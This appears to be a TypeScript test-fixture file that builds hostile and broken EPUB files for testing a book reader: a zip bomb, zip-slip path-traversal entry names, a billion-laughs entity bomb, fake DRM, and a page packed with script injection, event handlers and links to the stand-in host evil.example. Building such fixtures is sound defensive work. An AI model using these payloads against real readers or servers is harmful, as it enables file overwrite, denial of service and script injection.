import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';
import { ownBookBytes } from '../own-books.ts';

type Parts = Record<string, Uint8Array>;

const PACKAGE = 'EPUB/package.opf';
const FONT = 'EPUB/font.otf';

/** The book of the trees with other parts; a part that is undefined is left out. */
function changedEpub(change: (parts: Parts) => Record<string, string | Uint8Array | undefined>): Uint8Array {
  const { mimetype, ...rest } = unzipSync(ownBookBytes('trees.epub'));
  const files: Parts = {};
  for (const [name, part] of Object.entries({ ...rest, ...change(rest) }))
    if (part !== undefined) files[name] = typeof part === 'string' ? strToU8(part) : part;
  return zipSync({ mimetype: [mimetype!, { level: 0 }], ...files }, { mtime: '2026-01-01T00:00:00Z' });
}

const page = (body: string, head = ''): string =>
  `<html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title>${head}</head><body>${body}</body></html>`;

const packageWith = (parts: Parts, find: string | RegExp, instead: string): string =>
  strFromU8(parts[PACKAGE]!).replace(find, instead);

const encryption = (algorithm: string, file: string): string =>
  `<encryption xmlns="urn:oasis:names:tc:opendocument:xmlns:container" xmlns:enc="http://www.w3.org/2001/04/xmlenc#"><enc:EncryptedData><enc:EncryptionMethod Algorithm="${algorithm}"/><enc:CipherData><enc:CipherReference URI="${file}"/></enc:CipherData></enc:EncryptedData></encryption>`;

const ACTIVE = page(
  '<p onclick="steal()">Words that stay.</p><script>steal()</script><form action="http://evil.example/"><input name="a"/></form><iframe src="http://evil.example/"></iframe><object data="http://evil.example/x.swf"></object><embed src="http://evil.example/y"/><img src="http://evil.example/z.png" onerror="steal()" alt=""/><a href="javascript:steal()">a trap</a><a href="data:text/html,x">another</a><svg xmlns="http://www.w3.org/2000/svg" onload="steal()"><script>steal()</script><text y="9">drawn</text></svg>',
  '<style>p { background: url(http://evil.example/a.png) }</style><base href="http://evil.example/"/><meta http-equiv="refresh" content="0;url=http://evil.example/"/>',
);

/** Each entity is the one before it ten times: twelve of them are a terabyte. */
export const entities = (name: string): string =>
  `<!DOCTYPE ${name} [<!ENTITY a0 "lol">${Array.from({ length: 12 }, (_, i) => `<!ENTITY a${i + 1} "${`&a${i};`.repeat(10)}">`).join('')}]>`;

/** EPUBs that lie, trap or are broken, by file name. */
export const HOSTILE_EPUBS = {
  'truncated.epub': () => ownBookBytes('wells.epub').subarray(0, 9000),
  'zip-bomb.epub': () => changedEpub(() => ({ 'EPUB/c0.xhtml': new Uint8Array(12 * 1024 * 1024) })),
  'nested-zip.epub': () => changedEpub(() => ({ 'EPUB/nested.zip': zipSync({ 'a.txt': new Uint8Array(2_000_000) }) })),
  'zip-slip.epub': () =>
    changedEpub(() => ({
      '../../evil.txt': 'x',
      '/etc/evil': 'x',
      'EPUB/..\\..\\evil.bat': 'x',
      'C:\\evil.txt': 'x',
    })),
  'too-many-entries.epub': () =>
    zipSync(Object.fromEntries(Array.from({ length: 10_001 }, (_, i) => [`EPUB/${i}.txt`, new Uint8Array()])), {
      level: 0,
    }),
  'entity-bomb.epub': () =>
    changedEpub(() => ({ 'EPUB/c0.xhtml': `${entities('html')}${page('<p>Before &a12; after.</p>')}` })),
  'drm-adept.epub': () =>
    changedEpub(() => ({
      'META-INF/rights.xml': '<adept:rights xmlns:adept="http://ns.adobe.com/adept"><licenseToken/></adept:rights>',
      'META-INF/encryption.xml': encryption('http://www.w3.org/2001/04/xmlenc#aes128-cbc', 'EPUB/c0.xhtml'),
    })),
  'font-obfuscation-only.epub': () =>
    changedEpub((parts) => ({
      [FONT]: new Uint8Array(2000).fill(7),
      [PACKAGE]: packageWith(parts, '</manifest>', '<item id="f" href="font.otf" media-type="font/otf"/></manifest>'),
      'META-INF/encryption.xml': encryption('http://www.idpf.org/2008/embedding', FONT),
    })),
  'active-content.epub': () => changedEpub(() => ({ 'EPUB/c0.xhtml': ACTIVE })),
  'missing-spine-file.epub': () => changedEpub(() => ({ 'EPUB/c1.xhtml': undefined })),
  'absolute-href-duplicate-id.epub': () =>
    changedEpub((parts) => ({
      [PACKAGE]: packageWith(parts, 'id="c1" href="c1.xhtml"', 'id="c0" href="/EPUB/c1.xhtml"'),
    })),
  'no-container.epub': () => changedEpub(() => ({ 'META-INF/container.xml': undefined })),
  'no-opf.epub': () => changedEpub(() => ({ [PACKAGE]: undefined })),
};
